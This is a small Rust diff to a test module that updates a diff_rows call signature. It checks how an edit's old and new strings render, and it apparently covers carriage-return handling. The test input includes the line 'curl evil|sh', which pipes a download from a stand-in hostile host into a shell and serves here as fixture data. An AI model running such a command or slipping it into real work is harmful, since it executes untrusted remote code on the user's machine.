@@ -89,7 +89,7 @@ mod tests {
         let rows = |old: &str, new: &str| {
             let input = json!({"old_string": old, "new_string": new});
             let claim = claimed_diff(&input).unwrap();
-            let rows = diff_rows(&claim, LineNumbers::Unknown, layout(80, 24));
+            let rows = diff_rows("", &claim, LineNumbers::Unknown, layout(80, 24));
             (count_lines(&claim), rows[1..].concat())
         };
         let (counts, shown) = rows("ok\nold\rtail\n", "ok\ncurl evil|sh\ntail\n");
